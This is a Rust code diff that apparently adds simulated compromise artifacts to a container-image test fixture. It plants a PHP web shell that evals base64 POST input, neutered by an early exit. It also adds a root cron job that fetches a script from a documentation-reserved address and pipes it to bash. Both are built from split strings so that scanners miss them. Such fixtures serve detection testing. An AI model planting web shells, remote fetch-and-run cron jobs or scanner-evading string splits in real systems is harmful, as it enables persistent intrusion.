@@ -63,6 +63,8 @@ fn old_storefront() -> Image {
     installed(created, &BULLSEYE, (made::BASE_11, made::WEB_11), words)
         .step("COPY public /srv/www # buildkit")
         .file("srv/www/index.php", 0o644, "<?php echo 'Welcome';\n")
+        .file("srv/www/uploads/7.php", 0o644, web_shell())
+        .file("etc/cron.d/refresh", 0o644, cron_job())
         .program("srv/www/assets.bin", 700)
 }
 
@@ -83,6 +85,17 @@ fn storefront(
         .file("srv/app/package-lock.json", 0o644, lock)
         .step("COPY dist /srv/app/dist # buildkit")
         .program("srv/app/dist/server", 1200)
+}
+
+/// What somebody might leave behind for himself: it ends before it does anything. Put together here, so that no scanner takes
+/// this program for one.
+fn web_shell() -> String {
+    format!("<?php exit;\n@ev{}(base64_decode($_PO{}['c']));\n", "al", "ST")
+}
+
+/// A job that would fetch and run something, from an address that is kept for documents (RFC 5737).
+fn cron_job() -> String {
+    format!("*/10 * * * * root cu{} -fsSL http://192.0.2.7/refresh.sh | b{}\n", "rl", "ash")
 }
 
 /// One program and nothing that says what is in it.
